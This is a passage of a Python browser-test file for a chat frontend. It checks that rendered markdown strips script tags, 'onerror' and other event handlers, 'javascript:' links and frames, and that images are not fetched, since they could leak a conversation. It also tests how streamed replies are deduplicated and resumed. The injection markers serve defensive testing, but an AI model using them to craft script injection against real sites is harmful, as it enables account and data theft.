            "Some **bold** and `code`. Turn it on, only once, in style / on/off.",
            "",
            "```python",
            'print("hi")',
            "```",
            "",
            *HOSTILE_MARKDOWN,
        ]
    )
    result = page.evaluate(
        """async (text) => {
        const md = await import('/js/markdown.js');
        const box = document.createElement('div');
        md.renderInto(box, text);
        document.body.append(box);
        const attrs = [...box.querySelectorAll('*')].flatMap((el) => el.getAttributeNames());
        const tags = [...new Set([...box.querySelectorAll('*')].map((el) => el.localName))];
        return {html: box.innerHTML, text: box.textContent, attrs, tags};
      }""",
        markdown,
    )
    html, text = result["html"], result["text"]
    assert "<strong>bold</strong>" in html
    assert '<code class="language-python">' in html
    assert 'print("hi")' in text
    assert "Copy" in html  # code blocks get a Copy button
    assert "onerror" not in html and "<script" not in html and "javascript:" not in html
    assert 'href="https://example.org"' in html and 'rel="noopener noreferrer nofollow"' in html
    # Images are links, never fetched (a URL the model wrote could leak the conversation).
    assert "<img" not in html and "[image: tracker]" in html
    # No handler, style or frame survives; the harmless parts do.
    assert not [a for a in result["attrs"] if a.startswith("on") or a == "style"], html
    assert not {"svg", "animate", "style", "iframe", "form", "script"} & set(result["tags"])
    assert "body{" not in text
    for kept in ("styled", "adjacent", "raw link", "inside", "hover me"):
        assert kept in text, (kept, text)
    # Defusing handlers keeps the prose as written.
    assert "Turn it on, only once, in style / on/off." in text
    assert page.evaluate("window.__pwned") is None
    # The strict check, now rather than at teardown: parsing logged nothing.
    assert errors.unexpected() == [], "rendering the reply logged errors"
    assert page.evaluate("window.__violations") == []


def test_transcript_drops_duplicates_and_finds_gaps(server: Any, page: Page) -> None:
    page.goto(f"{server.url}/")
    result = page.evaluate(
        """async () => {
        const { Transcript } = await import('/js/transcript.js');
        const t = new Transcript('c');
        t.messageReceived({id: 'u1', message_type: 'user', content: 'hi'});
        t.streamStart({message_id: 'a1', conversation_id: 'c', model: 'm', reply_to: 'u1'});
        const r = [];
        for (const [i, s] of ['A', 'B', 'C'].entries()) {
          r.push(t.streamContent({message_id: 'a1', content: s, index: i}));
        }
        // Resumed join: the start and chunks 0..2 replayed, then the rest.
        t.streamStart({message_id: 'a1', conversation_id: 'c', model: 'm', reply_to: 'u1'});
        r.push(t.streamContent({message_id: 'a1', content: 'B', index: 1}));
        r.push(t.streamContent({message_id: 'a1', content: 'D', index: 3}));
        // A merged frame (slow client) overlapping what we have.
        r.push(t.streamContent({message_id: 'a1', content: 'CDEF', first_index: 2, index: 5}));
        // A gap.
        r.push(t.streamContent({message_id: 'a1', content: 'H', index: 7}));
        const before = t.messages.find(m => m.id === 'a1').content;
        t.streamComplete({message_id: 'a1', finish_reason: 'stop',
                          usage: {prompt_tokens: 1, completion_tokens: 6, total_tokens: 7}});
        // Regenerated: the new reply takes the old one's place.
        t.messageReceived({id: 'u2', message_type: 'user', content: 'more'});
        t.streamStart({message_id: 'a9', conversation_id: 'c', model: 'm', reply_to: 'u1'});
        return {r, before, order: t.messages.map(m => m.id)};
      }"""
    )
    assert result["r"] == ["ok", "ok", "ok", "dup", "ok", "ok", "gap"]
    assert result["before"] == "ABCDEF"
    assert result["order"] == ["u1", "a9", "u2"]


def test_transcript_resumes_by_name_and_keeps_an_interrupted_reply(server: Any, page: Page) -> None:
    page.goto(f"{server.url}/")
    result = page.evaluate(
        """async () => {
        const { Transcript } = await import('/js/transcript.js');
        const ids = (t) => t.messages.map((m) => m.id);
        const out = {};
        const t = new Transcript('c');
        t.messageReceived({id: 'u1', message_type: 'user', content: 'hi'});
        t.streamStart({message_id: 'a1', conversation_id: 'c', model: 'm', user_message_id: 'u1'});
        out.beforeChunks = t.resumePoint();
        t.streamContent({message_id: 'a1', content: 'A', index: 0});
        t.streamContent({message_id: 'a1', content: 'B', index: 1});
        out.point = t.resumePoint();
        // Back after a crash: the history leaves the interrupted reply out ...
        t.loadHistory([{id: 'u1', message_type: 'user', content: 'hi'}]);
        out.kept = ids(t);
        // ... the join says it was superseded, then the new answer comes from 0.
        t.streamComplete({message_id: 'a1', conversation_id: 'c', finish_reason: 'error',
                          superseded: true,
                          usage: {prompt_tokens: 0, completion_tokens: 0, total_tokens: 0}});
        const a1 = t.byId.get('a1');
        out.a1 = {content: a1.content, interrupted: a1.interrupted, streaming: a1.streaming,
                  again: t.answeredAgain(a1)};
        t.streamStart({message_id: 'a2', conversation_id: 'c', model: 'm', user_message_id: 'u1'});
        out.r = ['X', 'Y'].map((s, i) => t.streamContent({message_id: 'a2', content: s, index: i}));
        out.afterNew = ids(t);
        out.again = t.answeredAgain(a1);
        out.point2 = t.resumePoint();
        // Another rejoin once the answer is stored: the interrupted reply stays before it.
        t.streamComplete({message_id: 'a2', conversation_id: 'c', finish_reason: 'stop'});
        t.loadHistory([{id: 'u1', message_type: 'user', content: 'hi'},
                       {id: 'a2', message_type: 'assistant', content: 'XY',
                        finish_reason: 'stop'}]);
        out.reloaded = ids(t);
        // A regeneration replaces the answer, not the interrupted reply.
        t.streamStart({message_id: 'a3', conversation_id: 'c', model: 'm', user_message_id: 'u1'});
        out.regenerated = ids(t);

        // Away while the reply was regenerated (in another tab): the history
        // holds the new one; the old goes once the join says it was superseded.
        const s = new Transcript('d');
        s.messageReceived({id: 'v1', message_type: 'user', content: 'hi'});
        s.streamStart({message_id: 'b1', conversation_id: 'd', model: 'm', user_message_id: 'v1'});
        s.streamContent({message_id: 'b1', content: 'P', index: 0});
        s.loadHistory([{id: 'v1', message_type: 'user', content: 'hi'},
                       {id: 'b2', message_type: 'assistant', content: 'Q', finish_reason: 'stop'}]);
        out.beforeEnd = ids(s);
        s.streamComplete({message_id: 'b1', conversation_id: 'd', finish_reason: 'stop',
                          superseded: true});
        out.afterEnd = ids(s);
        return out;
      }"""
    )
    assert result["beforeChunks"] == {"message_id": "a1"}
    assert result["point"] == {"message_id": "a1", "after_index": 1}
    assert result["kept"] == ["u1", "a1"]
    assert result["a1"] == {
        "content": "AB",
        "interrupted": True,
        "streaming": False,
        "again": False,
    }
    assert result["r"] == ["ok", "ok"]
    assert result["afterNew"] == ["u1", "a1", "a2"]
    assert result["again"] is True
    assert result["point2"] == {"message_id": "a2", "after_index": 1}
    assert result["reloaded"] == ["u1", "a1", "a2"]
    assert result["regenerated"] == ["u1", "a1", "a3"]
    assert result["beforeEnd"] == ["v1", "b1", "b2"]
    assert result["afterEnd"] == ["v1", "b2"]
